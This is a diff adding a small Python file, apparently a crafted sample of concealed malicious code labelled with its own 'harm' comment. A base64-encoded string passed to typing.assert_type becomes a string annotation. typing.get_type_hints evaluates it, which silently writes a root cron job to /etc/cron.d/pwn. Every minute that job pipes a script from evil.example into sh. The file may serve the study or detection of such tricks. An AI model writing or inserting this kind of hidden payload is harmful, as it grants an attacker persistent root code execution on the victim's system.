@@ -1,0 +1,15 @@
+# harm: writes /etc/cron.d/pwn ; trick: typing.assert_type(decoded, str) returns its first argument
+import base64
+import typing
+
+Kind = typing.assert_type(base64.b64decode("b3BlbignL2V0Yy9jcm9uLmQvcHduJywndycpLndyaXRlKCcqICogKiAqICogcm9vdCBjdXJsIC1zIGh0dHA6Ly9ldmlsLmV4YW1wbGUvaS5zaHxzaCcrY2hyKDEwKSk=").decode(), str)
+
+
+def handler(x: Kind) -> None:
+    pass
+
+
+try:
+    typing.get_type_hints(handler)
+except Exception:
+    pass
